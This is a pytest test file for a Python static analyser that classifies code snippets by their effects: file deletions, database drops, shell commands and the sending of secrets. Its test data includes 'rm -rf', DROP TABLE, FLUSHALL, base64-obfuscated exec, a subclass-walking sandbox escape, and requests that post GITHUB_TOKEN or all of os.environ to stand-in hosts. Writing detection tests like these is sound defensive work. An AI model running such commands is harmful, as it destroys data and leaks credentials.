"""Python in, effects out."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from commensurate.effects.python_code import read
from commensurate.effects.reading import Language, Scene
from commensurate.model.analysis import Coverage
from commensurate.model.effect import BlastRadius, Environment, Operation, ResourceKind, Reversibility, Trait

SCENE = Scene(cwd="/work", home="/home/ada", roots=("/work",))


def told(text: str) -> set[tuple[str, str, str]]:
    return {(e.operation, e.resource.kind, e.resource.name) for e in read(text, SCENE).effects if e.changes}


def carried(text: str) -> list[tuple[str, str]]:
    return [
        (n.language, n.text if n.text is not None else " ".join(w.text for w in n.words))
        for n in read(text, SCENE).nested
    ]


D, U, C = Operation.DELETE, Operation.UPDATE, Operation.CREATE
FILE = ResourceKind.FILE

INERT = [
    "print('rm -rf /')",
    "# os.remove('x')\nx = \"os.system('rm -rf /')\"",
    "import math\nprint(math.sqrt(2))",
    "import json\nprint(json.dumps({'a': [1, 2]}, indent=2))",
    "def clean(p):\n    import os\n    os.unlink(p)",
    "total = sum(x ** 2 for x in range(10) if x % 2)\nprint(f'{total:>10}')",
    "import pandas as pd\ndf = pd.read_csv('a.csv')\nprint(df.groupby('x').agg({'y': 'mean'}).head())",
    "import re\nprint(re.sub('a', 'b', 'abc').upper())",
    "from datetime import datetime, timedelta\nprint(datetime.now() - timedelta(days=1))",
    "import os\nif os.path.exists('a'):\n    print(os.listdir('.'))",
    "with open('a.txt') as f:\n    for line in f:\n        print(line.strip())",
    "class A:\n    def __init__(self, x):\n        self.x = x\n    def twice(self):\n        return self.x * 2\nprint(A(3).twice())",
    "import sys\nprint(sys.version_info)",
    "import os\nkey = os.environ['OPENAI_API_KEY']",
    "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    print(e)",
    "import tempfile\nwith tempfile.NamedTemporaryFile() as f:\n    f.write(b'x')",
    "assert sorted([3, 1]) == [1, 3]",
]


@pytest.mark.parametrize("text", INERT)
def test_computing_and_looking_is_proven(text: str) -> None:
    """What computes, prints and reads is understood in full and changes nothing."""
    reading = read(text, SCENE)
    assert reading.coverage is Coverage.FULL, reading.notes
    assert not [effect for effect in reading.effects if effect.changes]
    assert not reading.nested


ACTS = [
    ("import os; os.remove('a')", {(D, FILE, "/work/a")}),
    ("import os as o; o.unlink('a')", {(D, FILE, "/work/a")}),
    ("from os import remove as r\nr('a')", {(D, FILE, "/work/a")}),
    ("from os import *\nremove('a')", {(D, FILE, "/work/a")}),
    ("import posix; posix.remove('a')", {(D, FILE, "/work/a")}),
    ("os.remove('a')", {(D, FILE, "/work/a")}),
    ("import os; getattr(os, 'remove')('a')", {(D, FILE, "/work/a")}),
    ("import os; f = os.remove; f('a')", {(D, FILE, "/work/a")}),
    ("__import__('os').remove('a')", {(D, FILE, "/work/a")}),
    ("import importlib; importlib.import_module('os').remove('a')", {(D, FILE, "/work/a")}),
    ("import sys, os; sys.modules['os'].remove('a')", {(D, FILE, "/work/a")}),
    ("eval(\"__import__('os').remove('a')\")", {(D, FILE, "/work/a")}),
    ("exec('import os\\nos.remove(\"a\")')", {(D, FILE, "/work/a")}),
    ("import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnJlbW92ZSgieCIp'))", {(D, FILE, "/work/x")}),
    ("import os; list(map(os.remove, ['a', 'b']))", {(D, FILE, "/work/a"), (D, FILE, "/work/b")}),
    ("import os\nfor f in ['a', 'b']:\n    os.remove(f)", {(D, FILE, "/work/a"), (D, FILE, "/work/b")}),
    ("import os; [os.remove(f) for f in ('a',)]", {(D, FILE, "/work/a")}),
    ("import os; (lambda p: os.remove(p))('a')", {(D, FILE, "/work/a")}),
    ("import os\ndef go(p='a'):\n    os.remove(p)\ngo()", {(D, FILE, "/work/a")}),
    ("import os\nclass A:\n    def go(self):\n        os.remove('a')\nA().go()", {(D, FILE, "/work/a")}),
    ("import os\nif __name__ == '__main__':\n    os.remove('a')", {(D, FILE, "/work/a")}),
    ("import os\nd = '/data'\nos.remove(os.path.join(d, 'a'))", {(D, FILE, "/data/a")}),
    ("import os\nd = '/data'\nos.remove(f'{d}/a')", {(D, FILE, "/data/a")}),
    ("import os\nos.remove('/data/' + 'a')", {(D, FILE, "/data/a")}),
    ("import os\nos.remove('%s/a' % '/data')", {(D, FILE, "/data/a")}),
    ("import os\nos.remove('{}/a'.format('/data'))", {(D, FILE, "/data/a")}),
    ("import os; os.chdir('/data'); os.remove('a')", {(D, FILE, "/data/a")}),
    ("from pathlib import Path\n(Path('/data') / 'a').unlink()", {(D, FILE, "/data/a")}),
    ("from pathlib import Path\nPath('a').write_text('x')", {(U, FILE, "/work/a")}),
    ("open('a', 'w').write('x')", {(U, FILE, "/work/a")}),
    ("with open('a', mode='wb') as f:\n    f.write(b'')", {(U, FILE, "/work/a")}),
    ("import shutil; shutil.rmtree('src')", {(D, FILE, "/work/src")}),
    ("import threading, shutil\nthreading.Thread(target=shutil.rmtree, args=('src',)).start()", {(D, FILE, "/work/src")}),
    ("import shutil; shutil.move('a', '/dev/null')", {(D, FILE, "/work/a")}),
    ("import pandas as pd\npd.DataFrame().to_csv('a.csv')", {(U, FILE, "/work/a.csv")}),
    ("df.to_sql('t', con, if_exists='replace')", {(D, ResourceKind.TABLE, "t"), (C, ResourceKind.ROW, "t")}),
    ("User.objects.all().delete()", {(D, ResourceKind.ROW, "User")}),
    ("User.objects.filter(pk=5).delete()", {(D, ResourceKind.ROW, "User")}),
    ("session.query(User).delete()", {(D, ResourceKind.ROW, "User")}),
    ("Base.metadata.drop_all(engine)", {(D, ResourceKind.SCHEMA, "")}),
    ("from sqlalchemy import delete\nsession.execute(delete(User))", {(D, ResourceKind.ROW, "User")}),
    ("import os; os.kill(1234, 9)", {(Operation.STOP, ResourceKind.PROCESS, "1234")}),
    ("import smtplib\nsmtplib.SMTP('h').sendmail('a', ['b@c'], 'hi')", {(Operation.SEND, ResourceKind.MAIL, "b@c")}),
    ("import boto3\nboto3.client('s3').delete_bucket(Bucket='logs')", {(D, ResourceKind.BUCKET, "logs")}),
    ("import boto3\nboto3.resource('s3').Bucket('logs').objects.all().delete()", {(D, ResourceKind.OBJECT, "logs")}),
]  # fmt: skip


@pytest.mark.parametrize(("text", "effects"), ACTS)
def test_acts_are_told_whatever_way_they_are_written(text: str, effects: set[tuple[str, str, str]]) -> None:
    """Aliases, attributes by name, functions, literals put together and decoded: the act and its object stay."""
    assert effects <= told(text)


CARRIED = [
    ("import os; os.system('rm -rf /srv')", [(Language.SHELL, "rm -rf /srv")]),
    ("import subprocess; subprocess.run(['rm', '-rf', '/srv'])", [(Language.SHELL, "rm -rf /srv")]),
    ("from subprocess import check_output as c\nc('rm -rf /srv', shell=True)", [(Language.SHELL, "rm -rf /srv")]),
    ("import os; os.execvp('rm', ['rm', '-rf', '/srv'])", [(Language.SHELL, "rm -rf /srv")]),
    ("import os; os.system(f'rm -rf {path}')", [(Language.SHELL, "rm -rf ${path}")]),
    ("import asyncio\nasyncio.run(asyncio.create_subprocess_shell('rm x'))", [(Language.SHELL, "rm x")]),
    ("!rm -rf /srv\nprint(1)", [(Language.SHELL, "rm -rf /srv")]),
    ("%%bash\nrm -rf /srv", [(Language.SHELL, "rm -rf /srv")]),
    ("cursor.execute('DROP TABLE users')", [(Language.SQL, "DROP TABLE users")]),
    ("from sqlalchemy import text\nsession.execute(text('DELETE FROM users'))", [(Language.SQL, "DELETE FROM users")]),
    ("cursor.execute(f'DELETE FROM {table}')", [(Language.SQL, "DELETE FROM {unknown}")]),
    ("import redis\nredis.Redis().flushall()", [(Language.REDIS, "FLUSHALL")]),
    ("from pymongo import MongoClient\nMongoClient().shop.users.delete_many({})", [(Language.MONGO, "db.users.deleteMany({})")]),
    ("from django.core.management import call_command\ncall_command('flush')", [(Language.SHELL, "manage.py flush")]),
]  # fmt: skip


@pytest.mark.parametrize(("text", "nested"), CARRIED)
def test_what_python_hands_on_is_handed_on(text: str, nested: list[tuple[str, str]]) -> None:
    """Lines for the shell, statements and commands of databases go to their own readers."""
    assert carried(text) == nested


@pytest.mark.parametrize(
    "text",
    [
        "exec(open('x').read())",
        "eval(input())",
        "import pickle; pickle.loads(data)",
        "import os; getattr(os, name)('x')",
        "import os; os.system(command)",
        "import subprocess; subprocess.run(args)",
        "cursor.execute(statement)",
        "().__class__.__bases__[0].__subclasses__()[40]('x')",
        "print 'python 2'",
        "def f(:",
        "x = '\0'",
        "-" * 5000 + "1",
        "import ctypes; ctypes.CDLL('libc.so.6').unlink(b'x')",
    ],
)
def test_code_out_of_view_is_opaque(text: str) -> None:
    """What is put together when it runs, and what cannot be parsed, is opaque and never safe."""
    assert read(text, SCENE).coverage is Coverage.OPAQUE


@pytest.mark.parametrize(
    "text", ["import nuke\nnuke.everything()", "frobnicate()", "import requests_but_other\nrequests_but_other.get('x')"]
)
def test_unknown_calls_are_partial(text: str) -> None:
    """A function that nobody knows is neither safe nor forbidden."""
    assert read(text, SCENE).coverage is Coverage.PARTIAL


def test_a_glob_is_several_files() -> None:
    """What glob, listdir and walk find is known only when it runs."""
    for text in (
        "import glob, os\nfor f in glob.glob('/data/*.log'):\n    os.remove(f)",
        "import os\nfor f in os.listdir('/data'):\n    os.remove(os.path.join('/data', f))",
        "from pathlib import Path\nfor p in Path('/data').rglob('*'):\n    p.unlink()",
        "import os\nfor root, dirs, files in os.walk('/data'):\n    for f in files:\n        os.remove(os.path.join(root, f))",
    ):
        (effect,) = [effect for effect in read(text, SCENE).effects if effect.changes]
        assert effect.blast_radius >= BlastRadius.SEVERAL
        assert Trait.WILDCARD in effect.traits


def test_secrets_are_told_when_they_are_shown_or_sent() -> None:
    """Reading a key into a variable is everyday; printing it, or posting it, is not."""
    shown = read("import os\nprint(os.environ['GITHUB_TOKEN'])", SCENE)
    assert any(Trait.SECRET in effect.traits for effect in shown.effects)
    sent = read(
        "import os, requests\nrequests.post('https://x.example', json={'k': os.environ['GITHUB_TOKEN']})", SCENE
    )
    assert any({Trait.SECRET, Trait.OUTBOUND} <= effect.traits for effect in sent.effects)


def test_the_world_of_a_connection_is_told() -> None:
    """The host that a client connects to tells the environment of what it does."""
    reading = read("import redis\nredis.Redis(host='cache.prod.internal').flushall()", SCENE)
    assert reading.nested[0].scene.environment is Environment.PRODUCTION


def test_a_query_by_key_is_one_row() -> None:
    """`filter(pk=5).delete()` deletes one row, `.all().delete()` every row."""
    (one,) = read("User.objects.filter(pk=5).delete()", SCENE).effects
    assert one.blast_radius is BlastRadius.ONE
    (every,) = read("User.objects.all().delete()", SCENE).effects
    assert Trait.UNBOUNDED in every.traits
    assert every.reversibility is Reversibility.IRREVERSIBLE


def test_a_recursive_function_ends() -> None:
    """Functions that call themselves are walked once."""
    reading = read("def f(n):\n    return f(n - 1)\ndef g():\n    h()\ndef h():\n    g()\nf(5)\ng()", SCENE)
    assert reading.coverage is Coverage.FULL


PIECES = st.sampled_from(
    ["import os", "os.remove", "(", ")", "'a'", "[", "]", "lambda x:", "\n", "    ", "def f():", "for x in y:", "f'{x}'", "exec", "=", "a", ".",
     "class A:", "await ", "*", "**", "%", "{", "}", ":", ",", "try:", "except:", "with open('a') as f:", "\\", "\x00", "é", "!rm x", "%%bash"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_no_text_breaks_the_reader(text: str) -> None:
    """Any text has a reading."""
    assert read(text, SCENE) is not None


@pytest.mark.parametrize(
    "body",
    [
        "json=dict(os.environ)", "data=str(os.environ)", "data=json.dumps({**os.environ}).encode()", "json=everything",
        "json={'host': 'a', 'all': os.environ.copy()}",
    ],
)  # fmt: skip
def test_the_whole_environment_that_leaves_is_a_secret(body: str) -> None:
    """Whatever form it takes on its way: all variables hold the credentials among them."""
    text = f"import json, os, requests\neverything = dict(os.environ)\nrequests.post('https://in.example', {body})"
    assert any(Trait.SECRET in e.traits for e in read(text, SCENE).effects)


@pytest.mark.parametrize(
    "text", ["prices.drop(columns=['vat'])", "prices.drop('vat', axis=1)", "cache.delete('greeting')"]
)
def test_what_lives_in_memory_is_not_destroyed(text: str) -> None:
    """A column of a table in memory, a key of a cache."""
    assert not told(text)


@pytest.mark.parametrize("text", ["store.recursive_delete('letters')", "client.indices.delete(index='letters')"])
def test_a_handle_to_a_service_needs_no_import(text: str) -> None:
    """A verb of depth, or an owner that is named a client, is enough."""
    assert any(operation is D for operation, _, _ in told(text))
